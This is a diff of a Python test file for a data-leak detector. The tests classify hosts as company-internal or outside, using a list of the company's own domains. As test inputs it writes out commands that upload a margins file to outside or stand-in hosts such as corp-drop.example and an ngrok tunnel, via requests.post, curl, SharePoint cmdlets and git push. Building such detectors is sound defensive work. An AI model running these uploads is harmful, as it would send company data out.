@@ -169,32 +169,54 @@ def test_running_a_model_s_answer_is_told_once(vault_key):
 @pytest.mark.parametrize(
     ("host", "is_told"),
     [
-        ("files.corp.acme.com", False),
-        ("intranet.acme.com.br", False),
-        ("erp.intern.acme.de", False),
-        ("dms.corp.example", False),
-        ("acme.sharepoint.com", False),
-        ("acme-my.sharepoint.com", True),
+        ("files", False),
+        ("files.corp", False),
+        ("files.lan", False),
+        ("nas.internal", False),
+        ("erp.local", False),
+        ("192.168.7.20", False),
+        ("files.corp.acme.com", True),
+        ("intranet.acme.com.br", True),
+        ("intranet.mailer.example", True),
+        ("corp-drop.example", True),
+        ("acme.sharepoint.com", True),
         ("upload.corp.com", True),
-        ("lan.com.br", True),
-        ("corp.s3.amazonaws.com", True),
         ("intranet.ngrok.io", True),
-        ("intern.duckdns.org", True),
-        ("partner.example", True),
     ],
 )
-def test_a_host_that_is_called_inner_is_the_company_s_where_not_anybody_may_call_it_so(vault_key, host, is_told):
+def test_a_host_is_inside_without_the_company_s_word_only_where_it_cannot_be_outside(vault_key, host, is_told):
     text = f"import requests\nrequests.post('https://{host}/in', files={{'f': open('margins.csv', 'rb')}})\n"
     assert rules(vault_key, text) == ({"data-to-upload"} if is_told else set())
     shell = f"curl -F file=@margins.csv https://{host}/in\n"
     assert rules(vault_key, shell, path="a.sh") == ({"data-to-upload"} if is_told else set())
 
 
-def test_a_file_put_on_the_company_s_team_site_is_no_way_out_and_on_a_person_s_it_is(vault_key):
+@pytest.mark.parametrize(
+    ("host", "is_told"),
+    [
+        ("files.corp.acme.com", False),
+        ("acme.sharepoint.com", False),
+        ("nas.internal", False),
+        ("192.168.7.20", False),
+        ("intranet.mailer.example", True),
+        ("acme-my.sharepoint.com", True),
+        ("rival.sharepoint.com", True),
+        ("notacme.com", True),
+    ],
+)
+def test_the_company_says_which_names_are_its_own(vault_key, host, is_told):
+    text = f"import requests\nrequests.post('https://{host}/in', files={{'f': open('margins.csv', 'rb')}})\n"
+    told = rules(vault_key, text, domains=["acme.com", "acme.sharepoint.com"])
+    assert told == ({"data-to-upload"} if is_told else set())
+
+
+def test_a_file_put_on_a_team_site_is_a_way_out_unless_the_company_says_that_it_is_its_own(vault_key):
     text = 'Connect-PnPOnline -Url "https://{}"\nAdd-PnPFile -Path .\\margins.xlsx -Folder Reports\n'
-    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1") == set()
-    told = rules(vault_key, text.format("acme-my.sharepoint.com/personal/ana"), path="a.ps1")
-    assert told == {"data-to-upload"}
+    own = ["acme.sharepoint.com"]
+    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1", domains=own) == set()
+    for site in ("rival.sharepoint.com/sites/sales", "acme-my.sharepoint.com/personal/ana"):
+        assert rules(vault_key, text.format(site), path="a.ps1", domains=own) == {"data-to-upload"}
+    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1") == {"data-to-upload"}
 
 
 def test_a_mail_passed_on_to_a_private_mailbox_is_told(vault_key):
@@ -209,4 +231,4 @@ def test_a_mail_passed_on_to_a_private_mailbox_is_told(vault_key):
 def test_a_command_that_a_function_of_the_script_puts_together_is_read_as_its_callers_say_it(vault_key):
     text = "import subprocess\ndef vcs(*words):\n    subprocess.run(['git', *words], check=True)\nvcs('add', '-A')\nvcs('push', '{}')\n"
     assert rules(vault_key, text.format("https://github.com/ana/figures.git")) == {"data-to-upload"}
-    assert rules(vault_key, text.format("https://git.corp.example/figures.git")) == set()
+    assert rules(vault_key, text.format("https://git.acme.com/figures.git"), domains=["acme.com"]) == set()
